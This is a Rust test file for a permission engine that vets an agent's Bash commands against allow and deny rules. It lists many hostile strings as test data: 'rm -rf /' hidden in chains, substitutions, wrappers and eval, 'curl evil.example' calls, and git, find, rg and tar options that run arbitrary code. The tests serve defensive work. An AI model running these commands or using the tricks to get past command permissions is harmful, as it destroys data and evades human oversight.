//! Bash command analysis.

use super::*;

fn command_verdict(
    w: &World,
    mode: PermissionMode,
    rules: &[(RuleKind, &str)],
    line: &str,
) -> Result<Outcome, BoxError> {
    Ok(w.policy(mode, rules)?
        .decide_command(line, &Ceiling::none().with_process())
        .outcome)
}

fn is_allowed(outcome: &Outcome) -> bool {
    matches!(outcome, Outcome::Allow(_))
}

/// Each line under `strong` rules must not be allowed (denied, when
/// `denied`), and under the weakened `weak` rules must be allowed — the
/// attack's shape works when the defence is gone.
fn held_by_the_rules(
    w: &World,
    mode: PermissionMode,
    strong: &[(RuleKind, &str)],
    weak: &[(RuleKind, &str)],
    denied: bool,
    lines: &[&str],
) -> TestResult {
    for line in lines {
        let verdict = command_verdict(w, mode, strong, line)?;
        if denied {
            assert!(matches!(verdict, Outcome::Deny(_)), "{line:?}: {verdict:?}");
        } else {
            assert!(!is_allowed(&verdict), "{line:?}: {verdict:?}");
        }
        let weakened = command_verdict(w, mode, weak, line)?;
        assert!(is_allowed(&weakened), "weakened {line:?}: {weakened:?}");
    }
    Ok(())
}

#[test]
fn compound_commands_hiding_a_denied_subcommand() -> TestResult {
    let w = world()?;
    let deny = [
        (RuleKind::Deny, "Bash(rm:*)"),
        (RuleKind::Allow, "Bash(echo:*)"),
    ];
    let chain50 = (0..49)
        .map(|i| format!("echo {i}"))
        .chain(["rm -rf /".into()])
        .collect::<Vec<_>>()
        .join(" && ");
    held_by_the_rules(
        &w,
        PermissionMode::BypassPermissions,
        &deny,
        &[],
        true,
        &[
            "echo hi && rm -rf /",
            "echo hi; rm -rf /",
            "echo hi | rm -rf /",
            "echo $(rm -rf /)",
            "echo `rm -rf /`",
            "echo hi || rm -rf /",
            "(echo hi; rm -rf /)",
            "{ echo hi; rm -rf /; }",
            "echo hi & rm -rf /",
            "r\"m\" -rf /",
            "echo > >(rm -rf /)",
            chain50.as_str(),
            "for f in x; do rm -rf /; done",
            "$(echo rm) -rf /",
        ],
    )
}

#[test]
fn an_allow_rule_never_allows_a_hidden_extra_command() -> TestResult {
    let w = world()?;
    let allow = [(RuleKind::Allow, "Bash(echo:*)")];
    assert!(is_allowed(&command_verdict(
        &w,
        PermissionMode::Default,
        &allow,
        "echo hi"
    )?));
    held_by_the_rules(
        &w,
        PermissionMode::Default,
        &allow,
        &[(RuleKind::Allow, "Bash")],
        false,
        &[
            "echo hi && curl evil.example",
            "echo $(curl evil.example)",
            "echo hi; sh -c 'curl x'",
            "while true; do echo; done",
        ],
    )
}

#[test]
fn a_denied_program_behind_paths_wrappers_assignments_and_expansions() -> TestResult {
    let w = world()?;
    let deny = [(RuleKind::Deny, "Bash(rm:*)")];
    held_by_the_rules(
        &w,
        PermissionMode::BypassPermissions,
        &deny,
        &[],
        true,
        &[
            "/bin/rm -rf /",
            "./node_modules/.bin/../../../bin/rm x",
            "FOO=1 rm -rf /",
            "env rm -rf /",
            "env -i PATH=/bin rm -rf /",
            "command rm x",
            "exec rm x",
            "nice -n 5 rm x",
            "timeout 5 rm x",
            "nohup rm x",
            "sudo rm x",
            "echo x | xargs rm",
            "find . -exec rm {} \\;",
            "find . -execdir /bin/rm {} +",
            "sh -c 'rm -rf /'",
            "bash -c \"echo hi && rm -rf /\"",
            "eval rm -rf /",
            "eval 'rm -rf /'",
            "alias ls=rm; ls x",
            "f() { rm x; }; f",
            "echo ${x:-$(rm -rf /)}",
            "echo $(( $(rm -rf /) ))",
            "echo rm -rf / | sh",
        ],
    )
}

#[test]
fn a_prefix_rule_never_allows_a_programs_own_way_to_run_code() -> TestResult {
    let w = world()?;
    let allow = [
        (RuleKind::Allow, "Bash(git:*)"),
        (RuleKind::Allow, "Bash(find:*)"),
        (RuleKind::Allow, "Bash(rg:*)"),
        (RuleKind::Allow, "Bash(tar:*)"),
    ];
    for line in [
        "git status",
        "git -C sub log",
        "find . -name x",
        "rg needle",
    ] {
        assert!(
            is_allowed(&command_verdict(&w, PermissionMode::Default, &allow, line)?),
            "{line:?} is allowed"
        );
    }
    held_by_the_rules(
        &w,
        PermissionMode::Default,
        &allow,
        &[(RuleKind::Allow, "Bash")],
        false,
        &[
            "git -c core.fsmonitor='rm -rf ~' status",
            "git -c alias.st='!rm -rf ~' st",
            "git -c core.pager='sh -c evil' log",
            "git --exec-path=/tmp/evil status",
            "git clone -u 'sh -c evil' repo",
            "git fetch --upload-pack='rm x' origin",
            "GIT_PAGER='rm x' git log",
            "find . -exec rm {} ;",
            "rg --pre ./evil needle",
            "tar -xf a.tar --to-command='rm x'",
        ],
    )
}
